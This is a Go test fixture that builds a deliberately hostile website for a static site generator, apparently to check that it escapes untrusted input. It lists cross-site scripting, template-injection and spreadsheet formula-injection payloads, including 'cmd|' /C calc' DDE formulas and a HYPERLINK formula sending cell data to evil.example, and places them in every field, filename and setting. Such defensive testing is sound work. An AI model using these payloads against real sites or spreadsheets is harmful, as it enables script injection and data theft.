package sitetest

import (
	"encoding/json"
	"fmt"
	"strings"

	"mulu/cmd/mulu/internal/config"
)

// Payloads are texts that want to be a script, a formula or a line of their own where
// they are shown. The scripts call canary().
var Payloads = []string{
	`<script>canary()</script>`, `"><img src=x onerror=canary()>`, `'><svg/onload=canary()>`, `</title></head><script>canary()</script>`,
	`</script><script>canary()</script>`, `<!--<script>canary()//--></textarea><script>canary()</script>`, `]]><script xmlns="http://www.w3.org/1999/xhtml">canary()</script>`,
	`" autofocus onfocus="canary()" onmouseover="canary()" x="`, `' autofocus onfocus='canary()' x='`, "` onfocus=canary() autofocus x=`", `javascript:canary()`,
	`\u003cscript\u003ecanary()\u003c/script\u003e`, `&lt;script&gt;canary()&lt;/script&gt;`, `&#60;img src=x onerror=canary()&#62;`, `%3Cscript%3Ecanary()%3C/script%3E`,
	`<iframe srcdoc="<script>parent.canary()</script>"></iframe>`, `<details open ontoggle=canary()>x</details>`, `<base href=//evil.example/><meta http-equiv=refresh content="0;url=javascript:canary()">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">`, `{{canary}}${canary()}<%= canary() %>`,
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3`, `＝1+1`,
	`甲;BEGIN:VEVENT,DTSTART\nX-EVIL:1`, `[x](javascript:canary()) ![x](x" onerror="canary())`, `<a href="javascript:canary()">x</a>`,
}

// Hostile is a site in which each document says one payload in every field where an
// editor may write what he likes, and in its body, and the settings say them, too.
func Hostile() Files {
	fs := Files{config.FileName: hostileConfig(), "content/guide.md": hostilePage()}
	for i, p := range Payloads {
		fs[fmt.Sprintf("content/d%d.md", i+1)] = hostileDoc(i+1, p)
		fs[fmt.Sprintf("content/%s", hostileFile(i+1))] = hostileCSV(p)
	}
	return fs
}

// literal is a text as TOML and JSON quote it.
func literal(text string) string {
	var b strings.Builder
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	_ = e.Encode(text) // a text in memory
	return strings.TrimSpace(b.String())
}

// hostileFile is the name of a document's attachment, of characters that a file may have.
func hostileFile(serial int) string {
	return fmt.Sprintf("附件%d' onerror=canary() &lt;%%3Cscript%%3E&quot; {{x}} ;=1.csv", serial)
}

func hostileCSV(p string) string { return "项,数\n" + strings.ReplaceAll(p, "\"", "") + ",1\n" }

func hostileDoc(serial int, p string) string {
	q := literal(p)
	more := "category = \"wj\"\nsummary = " + q + "\nkeywords = [" + q + "]\nunit = " + q + "\nkeep = " + q + "\ndisclosure_basis = " + q +
		"\nsource = {name = " + q + ", url = \"https://www.example.com/?a=1&b='x'\"}\nchanges = [{on = 2026-03-01, text = " + q + "}]" +
		"\nattachments = [{file = " + literal(hostileFile(serial)) + ", title = " + q + "}]\nauthor = " + q
	if serial%2 == 1 {
		more += "\nrepealed = 2026-02-01\nrepealed_by = " + q
	}
	if serial > 1 {
		more += "\nrelated = [{target = \"" + Index(serial-1) + "\", note = " + q + "}]"
	}
	if serial%2 == 0 {
		more += "\nclass = \"意见征集\"\nconsultation = {opens = 2026-11-01, closes = 2026-12-10, channel = " + q + "}"
	}
	text := escaped(p)
	cell := strings.ReplaceAll(text, "|", "\\|")
	body := "## " + text + "\n\n" + text + "\n\n- " + text + "\n\n| " + cell + " | 数 |\n| --- | --- |\n| " + cell + " | 1 |\n\n```" + strings.ReplaceAll(p, "`", "'") + "\n" + p + "\n```\n\n注[^1]\n\n[^1]: " + text + "\n"
	return strings.Replace(Doc(serial, more, body), fmt.Sprintf("\"文件%d\"", serial), q, 1)
}

// escaped is a text as Markdown shows it: HTML and links to scripts in it are errors that
// nothing excuses.
func escaped(p string) string {
	return strings.NewReplacer("<", "\\<", "[", "\\[", "`", "\\`").Replace(p)
}

func hostilePage() string {
	return "+++\npage = \"guide\"\ntitle = " + literal(Payloads[0]) + "\nupdated = 2025-01-02\n+++\n\n" + escaped(strings.Join(Payloads, "\n\n")) + "\n"
}

// hostileConfig says a payload of another kind in each text of the settings.
func hostileConfig() string {
	q := func(i int) string { return literal(Payloads[i]) }
	return "title = " + q(0) + "\nbase_url = \"https://jtj.qilan.example/xxgk/\"\npage_size = 5\n\n[site]\nname = " + q(1) + "\nsponsor = " + q(2) +
		"\n\n[[issuer]]\nname = \"栖澜市交通运输局\"\ncode = \"113701000041890072\"\nprefix = \"栖交发\"\n\n" +
		"[[category]]\npath = \"wj\"\nname = " + q(3) + "\ndescription = " + q(4) + "\nowner = " + q(5) + "\ncycle = \"长期\"\n\n[search]\nattachments = [\"csv\"]\n"
}
